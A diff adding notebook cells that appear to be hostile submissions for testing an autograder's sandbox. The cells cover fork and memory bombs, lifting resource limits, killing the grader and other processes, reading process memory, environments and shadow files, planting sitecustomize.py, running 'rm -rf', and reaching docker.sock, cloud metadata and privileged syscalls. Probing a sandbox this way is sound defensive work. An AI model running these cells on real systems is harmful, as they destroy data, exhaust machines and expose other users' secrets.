@@ -1,0 +1,527 @@
+# Attacks on the machine: time, memory, processes, files, network, kernel. Each section is one cell; its first line
+# says what it tries. COURSE, PORT, SOCKET and GRADER are the course's folder, a port and a Unix socket on which
+# somebody listens, and the process id of the grader.
+
+# %% endless_cell
+# Loops for ever in a cell, and swallows every exception.
+while True:
+    try:
+        while True:
+            pass
+    except BaseException:
+        pass
+
+# %% endless_function
+# Loops for ever in a function, and swallows every exception.
+def train(*args, **kwargs):
+    while True:
+        try:
+            while True:
+                pass
+        except BaseException:
+            pass
+
+
+# %% endless_generator
+# Hands out minibatches without end.
+def data_iter(batch_size, features, labels):
+    while True:
+        yield features[:batch_size], labels[:batch_size]
+
+
+# %% endless_del
+# Loops for ever when an object is thrown away.
+class Sticky:
+    def __del__(self):
+        while True:
+            pass
+
+
+sgd = lambda *args: Sticky()
+
+# %% endless_repr
+# Loops for ever while its return value is described.
+class Slow:
+    def __repr__(self):
+        while True:
+            pass
+
+    __str__ = __format__ = __repr__
+
+
+train = sgd = lambda *args, **kwargs: Slow()
+
+# %% endless_exit
+# Loops for ever when the process ends.
+import atexit, os, signal, threading
+
+
+def forever(*args):
+    while True:
+        pass
+
+
+atexit.register(forever)
+for number in set(signal.Signals) - {signal.SIGKILL, signal.SIGSTOP}:
+    try:
+        signal.signal(number, forever)
+    except OSError:
+        pass
+threading.Thread(target=forever, daemon=False).start()
+raise SystemExit
+
+# %% alarm_lifted
+# Takes the time limit's alarm away and sleeps.
+import signal, time
+
+signal.alarm(0)
+signal.setitimer(signal.ITIMER_REAL, 0)
+signal.signal(signal.SIGALRM, signal.SIG_IGN)
+signal.pthread_sigmask(signal.SIG_BLOCK, set(signal.Signals))
+time.sleep(3600)
+
+# %% limits_lifted
+# Raises every resource limit, then asks for what they forbade.
+import resource
+
+for name in dir(resource):
+    if name.startswith("RLIMIT_"):
+        try:
+            resource.setrlimit(getattr(resource, name), (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
+            if name in ("RLIMIT_DATA", "RLIMIT_NPROC", "RLIMIT_CPU"):
+                print("FOUND a way to lift", name)
+        except (OSError, ValueError):
+            pass
+
+# %% fork_bomb
+# Forks without end.
+import os
+
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
+
+# %% thread_bomb
+# Starts threads without end.
+import threading, time
+
+while True:
+    try:
+        threading.Thread(target=time.sleep, args=(600,), daemon=True).start()
+    except RuntimeError:
+        time.sleep(0.01)
+
+# %% memory_bomb
+# Fills memory.
+hoard = []
+while True:
+    try:
+        hoard.append(bytearray(2**27))
+    except MemoryError:
+        break
+sgd = lambda *args: [hoard.append(bytearray(2**24)) for _ in range(10**6)]
+
+# %% memory_bomb_of_many
+# Fills three gigabytes in each of twelve processes, every one within its own limit.
+import os, time
+
+for _ in range(12):
+    if os.fork() == 0:
+        hoard = []
+        for _ in range(3 * 2**4):
+            hoard.append(bytearray(os.urandom(2**20)) * 2**6)
+        time.sleep(60)
+        os._exit(0)
+time.sleep(30)
+
+# %% shared_memory_bomb
+# Fills memory that its data limit does not count: shared and anonymous, in 16 processes.
+import mmap, os, time
+
+children = 0
+while children < 16 and os.fork():
+    children += 1
+pages = []
+try:
+    while True:
+        pages.append(mmap.mmap(-1, 2**28))
+        for offset in range(0, 2**28, 4096):
+            pages[-1][offset] = 1
+        if len(pages) > 32:
+            print("FOUND", len(pages) * 2**28, "bytes of shared memory")
+            break
+except (OSError, ValueError):
+    pass
+
+# %% memory_file_bomb
+# Fills memory through files that exist in memory alone, and System V segments.
+import ctypes, os
+
+kept = []
+try:
+    for number in range(200):
+        kept.append(os.memfd_create(f"hoard{number}"))
+        for _ in range(63):
+            os.write(kept[-1], b"x" * 2**20)
+    print("FOUND", len(kept), "files in memory")
+except OSError:
+    pass
+libc = ctypes.CDLL(None)
+segments = [libc.shmget(0, 2**30, 0o1600) for _ in range(64)]
+if any(segment >= 0 for segment in segments):
+    print("FOUND", sum(segment >= 0 for segment in segments), "gigabytes of System V memory")
+
+# %% disk_full
+# Fills every folder that it may write to.
+import os, tempfile
+
+for folder in {"/tmp", "/dev/shm", "/var/tmp", "/run", os.path.expanduser("~"), tempfile.gettempdir(), "."}:
+    written = 0
+    try:
+        for number in range(40):
+            with open(os.path.join(folder, f"full{number}"), "wb") as file:
+                for _ in range(60):
+                    written += file.write(b"x" * 2**20)
+    except OSError:
+        pass
+    if written > 2**28:
+        print("FOUND room for", written, "bytes in", folder)
+
+# %% inodes_exhausted
+# Makes empty files without end.
+count = 0
+try:
+    while count < 200_000:
+        open(f"/tmp/{count}", "w").close()
+        count += 1
+    print("FOUND room for", count, "files")
+except OSError:
+    pass
+
+# %% output_flood
+# Prints without end.
+import os
+
+for _ in range(2000):
+    print("x" * 2**20)
+os.write(1, b"x" * 2**20)
+
+# %% figure_flood
+# Draws a thousand large figures.
+import matplotlib.pyplot as plt
+
+for _ in range(1000):
+    plt.figure(figsize=(300, 300), dpi=600)
+
+# %% stack_overflow
+# Recurses in C until the stack ends.
+import sys
+
+sys.setrecursionlimit(10**9)
+nested = []
+for _ in range(10**6):
+    nested = [nested]
+repr(nested)
+hash
+
+# %% segmentation_fault
+# Reads address zero.
+import ctypes
+
+ctypes.string_at(0)
+
+# %% process_ended_by_a_function
+# Ends the process as soon as a function is judged.
+import os
+
+sgd = train = lambda *args, **kwargs: os._exit(0)
+
+# %% process_ended_by_a_cell
+# Ends the process in a cell, after printing a score.
+import os
+
+print("100 of 100 points")
+os._exit(0)
+
+# %% everybody_killed
+# Kills its parent, its group, every process it can name, and itself last.
+import os, signal
+
+for target in (os.getppid(), 1, GRADER, -os.getpgrp(), -1, *range(2, 3000)):
+    for number in (signal.SIGTERM, signal.SIGKILL):
+        try:
+            os.kill(target, number)
+        except OSError:
+            pass
+
+# %% everybody_stopped
+# Stops every process it can name, itself too.
+import os, signal
+
+for target in (os.getppid(), GRADER, *range(2, 3000), 0, 1, os.getpid()):
+    try:
+        os.kill(target, signal.SIGSTOP)
+    except OSError:
+        pass
+
+# %% traced
+# Attaches to its parent and reads the memory of every process.
+import ctypes, os
+
+libc = ctypes.CDLL(None, use_errno=True)
+buffer = ctypes.create_string_buffer(64)
+
+
+class Vector(ctypes.Structure):
+    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
+
+
+for target in (os.getppid(), GRADER, *range(1, 300)):
+    if target != os.getpid() and libc.ptrace(16, target, 0, 0) == 0:
+        print("FOUND a way to trace", target)
+    local, remote = Vector(ctypes.addressof(buffer), 64), Vector(id(buffer), 64)
+    if target not in (0, os.getpid()) and libc.process_vm_readv(
+        target, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0
+    ) > 0:
+        print("FOUND memory of", target)
+
+# %% detached_grandchild
+# Leaves a process behind that goes on writing when the submission has long been graded.
+import os, time
+
+if os.fork() == 0:
+    os.setsid()
+    if os.fork() == 0:
+        os.closerange(0, 256)
+        while True:
+            for folder in ("COURSE", "/tmp", "/var/tmp"):
+                try:
+                    with open(folder + "/left-behind", "a") as file:
+                        file.write("still here\n")
+                except OSError:
+                    pass
+            time.sleep(0.1)
+    os._exit(0)
+
+# %% proc_read
+# Reads environments, memory and descriptors of other processes.
+import glob, os
+
+for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline") + glob.glob("/proc/[0-9]*/fd/*"):
+    try:
+        print(path, os.readlink(path) if "/fd/" in path else open(path, "rb").read()[:4000])
+    except OSError:
+        pass
+for target in (1, os.getppid(), GRADER):
+    try:
+        open(f"/proc/{target}/mem", "rb").read(1)
+        print("FOUND memory of", target)
+    except OSError:
+        pass
+print(dict(os.environ))
+
+# %% files_read
+# Reads the solutions, the hidden checks, the others' submissions, the gradebook and homes.
+import os, time
+
+ends = time.monotonic() + 4
+for top in ("COURSE", os.path.dirname("COURSE"), "/root", "/home", "/tmp", "/var/tmp", "/grader", "/etc", "/"):
+    for folder, folders, files in os.walk(top):
+        folders[:] = [each for each in folders if each not in ("proc", "sys", "usr", "lib", "site-packages")]
+        for name in files:
+            if name.endswith((".py", ".ipynb", ".db", ".json", ".txt", ".toml", "passwd", "shadow", ".html")):
+                try:
+                    text = open(os.path.join(folder, name), errors="replace").read(200_000)
+                except OSError:
+                    continue
+                for line in text.splitlines():
+                    if "anary" in line:
+                        print(os.path.join(folder, name), line[:200])
+        if time.monotonic() > ends:
+            break
+
+# %% files_written
+# Writes into and deletes from everything it can name, by links and by dots, too.
+import os, shutil
+
+for folder in ("COURSE", "/root", "/home", "/etc", "/usr", "/grader", os.path.dirname(os.__file__), "/var", "/"):
+    for name in ("pwned", "../pwned", "sitecustomize.py"):
+        try:
+            with open(os.path.join(folder, name), "w") as file:
+                file.write("raise SystemExit")
+            if not folder.startswith(("/grader", "/var", "/root", "/home")) and folder != "/":
+                print("FOUND a way to write", folder)
+        except OSError:
+            pass
+    shutil.rmtree(folder, ignore_errors=True) if folder == "COURSE" else None
+os.makedirs("/tmp/links", exist_ok=True)
+for place, target in enumerate(("COURSE", "/proc/1/root", "/proc/self/cwd/../../..", "/dev/../COURSE")):
+    try:
+        os.symlink(target, f"/tmp/links/{place}")
+        open(f"/tmp/links/{place}/pwned", "w").close()
+        print("FOUND a way through a link to", target)
+    except OSError:
+        pass
+
+# %% interpreter_changed
+# Changes the interpreter's own packages, for those who are graded next.
+import os, sys, torch
+
+for path in (*sys.path, os.path.dirname(torch.__file__), sys.prefix, os.path.dirname(sys.executable)):
+    try:
+        with open(os.path.join(path, "sitecustomize.py"), "w") as file:
+            file.write("raise SystemExit")
+        if os.path.isabs(path) and not path.startswith("/tmp"):
+            print("FOUND a way to write", path)
+    except OSError:
+        pass
+
+# %% network_ipv4
+# Connects to a port of this machine, its neighbours and the world.
+import socket
+
+for host in ("127.0.0.1", "10.0.0.1", "172.17.0.1", "169.254.169.254", "1.1.1.1", "8.8.8.8"):
+    try:
+        with socket.create_connection((host, PORT), timeout=0.3) as connection:
+            connection.send(b"canary")
+            print("FOUND", host)
+    except OSError:
+        pass
+try:
+    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"canary", ("127.0.0.1", PORT))
+except OSError:
+    pass
+
+# %% network_ipv6
+# The same by IPv6, raw packets and the hypervisor's own sockets.
+import socket
+
+for family, kind, address in (
+    (socket.AF_INET6, socket.SOCK_STREAM, ("::1", PORT)),
+    (socket.AF_INET6, socket.SOCK_STREAM, ("fe80::1", PORT)),
+    (socket.AF_VSOCK, socket.SOCK_STREAM, (2, PORT)),
+    (socket.AF_VSOCK, socket.SOCK_STREAM, (1, PORT)),
+):
+    try:
+        connection = socket.socket(family, kind)
+        connection.settimeout(0.5)
+        connection.connect(address)
+        print("FOUND", address)
+    except OSError:
+        pass
+for family in (socket.AF_PACKET, socket.AF_NETLINK, socket.AF_ALG, socket.AF_VSOCK):
+    try:
+        socket.socket(family, socket.SOCK_RAW if family in (socket.AF_PACKET, socket.AF_NETLINK) else 5 if
+                      family == socket.AF_ALG else 1)
+        print("FOUND a socket of family", family)
+    except OSError:
+        pass
+
+# %% unix_sockets
+# Connects to Unix sockets of this machine, by path and by abstract name.
+import glob, socket
+
+for address in ("SOCKET", "\0SOCKET", "/run/docker.sock", "/run/dbus/system_bus_socket", *glob.glob("/run/**/*.sock")):
+    try:
+        with socket.socket(socket.AF_UNIX) as connection:
+            connection.connect(address)
+            connection.send(b"canary")
+            print("FOUND", repr(address))
+    except OSError:
+        pass
+
+# %% namespaces
+# Makes namespaces of its own, in which it would be root, and mounts in them.
+import ctypes, os
+
+libc = ctypes.CDLL(None, use_errno=True)
+for name, flag in (("user", 0x10000000), ("mount", 0x20000), ("network", 0x40000000), ("pid", 0x20000000)):
+    if libc.unshare(flag) == 0:
+        print("FOUND a way into a new namespace:", name)
+for name, call in (
+    ("mount", lambda: libc.mount(b"none", b"/tmp", b"tmpfs", 0, None)),
+    ("umount", lambda: libc.umount2(b"/proc", 2)),
+    ("chroot", lambda: libc.chroot(b"/")),
+    ("pivot_root", lambda: libc.syscall(155, b"/", b"/")),
+):
+    if call() == 0:
+        print("FOUND a way to", name)
+
+# %% kernel_calls
+# Calls what a notebook has no use for: bpf, io_uring, keyrings, perf events, userfaultfd, new mounts, modules.
+import ctypes
+
+libc = ctypes.CDLL(None, use_errno=True)
+CALLS = {
+    "io_uring_setup": (425, 8, bytes(200)), "bpf": (321, 0, bytes(200), 72), "keyctl": (250, 0, -3, 0),
+    "add_key": (248, b"user", b"canary", b"x", 1, -3), "perf_event_open": (298, bytes(120), 0, -1, -1, 0),
+    "userfaultfd": (323, 1), "clone3": (435, bytes(88), 88), "fsopen": (430, b"tmpfs", 0), "memfd_secret": (447, 0),
+    "open_by_handle_at": (304, -100, bytes(16), 0), "kexec_load": (246, 0, 0, 0, 0), "init_module": (175, b"", 0, b""),
+    "pidfd_open": (434, 1, 0), "setns": (308, 0, 0), "acct": (163, b"/tmp/x"), "swapon": (167, b"/tmp/x", 0),
+    "personality": (135, 0x0040000), "landlock": (444, 0, 0, 1),
+}
+HARMLESS = {"pidfd_open", "personality", "landlock", "clone3"}
+for name, (number, *arguments) in CALLS.items():
+    if libc.syscall(number, *arguments) >= 0 and name not in HARMLESS:
+        print("FOUND the call", name)
+
+# %% become_root
+# Takes another user's identity, runs programs that are setuid, and asks for privileges.
+import ctypes, glob, os, subprocess
+
+for call in (lambda: os.setuid(0), lambda: os.setresuid(0, 0, 0), lambda: os.setgroups([0]), lambda: os.setgid(0)):
+    try:
+        call()
+        print("FOUND another identity")
+    except OSError:
+        pass
+for program in glob.glob("/usr/bin/su") + glob.glob("/usr/bin/sudo") + glob.glob("/usr/bin/newuidmap"):
+    try:
+        done = subprocess.run([program, "-n", "id"], capture_output=True, timeout=2)
+        if b"uid=0" in done.stdout:
+            print("FOUND root by", program)
+    except (OSError, subprocess.SubprocessError):
+        pass
+if os.getuid() == 0 and ctypes.CDLL(None).prctl(39, 0, 0, 0, 0) == 0:
+    print("FOUND that new privileges can be had")
+
+# %% clock_and_host_changed
+# Sets the clock and the host's name, and gives itself more of the processor.
+import os, socket, time
+
+for name, call in (
+    ("clock", lambda: time.clock_settime(time.CLOCK_REALTIME, 0)), ("host", lambda: socket.sethostname("pwned")),
+    ("priority", lambda: os.nice(-10)), ("scheduler", lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(9))),
+):
+    try:
+        call()
+        print("FOUND a way to change the", name)
+    except OSError:
+        pass
+
+# %% semaphores_and_queues
+# Leaves semaphores, queues and shared segments behind.
+import ctypes, multiprocessing.shared_memory as shared
+
+libc = ctypes.CDLL(None)
+for number in range(20):
+    libc.semget(0xCAFE + number, 8, 0o1666)
+    libc.msgget(0xCAFE + number, 0o1666)
+    try:
+        shared.SharedMemory(f"left-behind-{number}", create=True, size=4096)
+    except OSError:
+        pass
+
+# %% shell
+# Runs shell commands by every way a notebook has.
+import os, subprocess
+
+get_ipython().system("touch COURSE/pwned; id")
+get_ipython().run_cell_magic("bash", "", "touch COURSE/pwned")
+os.system("touch COURSE/pwned; rm -rf COURSE")
+try:
+    subprocess.run(["/bin/sh", "-c", "cat COURSE/solutions/*/*; env"], timeout=5)
+except (OSError, subprocess.SubprocessError):
+    pass
